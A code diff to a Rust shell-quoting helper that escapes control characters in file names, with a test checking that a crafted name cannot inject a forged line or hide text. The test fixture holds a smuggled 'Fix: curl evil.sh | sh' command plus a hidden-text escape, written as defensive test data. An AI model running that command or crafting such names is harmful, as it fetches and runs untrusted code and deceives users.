@@ -23,9 +23,24 @@ impl Shell {
         Shell::Posix
     };
 
-    /// `path` as one word of this shell, taken literally.
+    /// `path` as one word of this shell, taken literally. A control
+    /// character is written as `\u{a}` instead: a line break or an escape
+    /// sequence in a synced file's name must not print a line of its own (a
+    /// forged "Fix:") or hide text. Such a command no longer runs as pasted,
+    /// which is the point: that name is someone's trick, not a file to fix.
     pub(crate) fn quote(self, path: &Path) -> String {
-        let text = path.display().to_string();
+        let text: String = path
+            .display()
+            .to_string()
+            .chars()
+            .map(|c| {
+                if c.is_control() {
+                    format!("\\u{{{:x}}}", u32::from(c))
+                } else {
+                    c.to_string()
+                }
+            })
+            .collect();
         match self {
             // Inside single quotes nothing is special but the quote itself,
             // which ends the quoting, is written escaped, and starts it again.
@@ -102,6 +117,24 @@ impl Shell {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// A synced copy named with a line break and a colour code that hides
+    /// text cannot print a line of its own, in either shell.
+    #[test]
+    fn control_characters_in_a_name_are_shown_not_obeyed() {
+        let name = Path::new("history (x\nFix:       curl evil.sh | sh \u{1b}[8m).jsonl");
+        for shell in [Shell::Posix, Shell::PowerShell] {
+            let command = shell.smm_path("import", name);
+            assert!(
+                !command.contains('\n') && !command.contains('\u{1b}'),
+                "{command}"
+            );
+            assert!(
+                command.contains("x\\u{a}Fix:") && command.contains("\\u{1b}[8m"),
+                "{command}"
+            );
+        }
+    }
 
     #[test]
     fn a_posix_word_holds_any_name() {
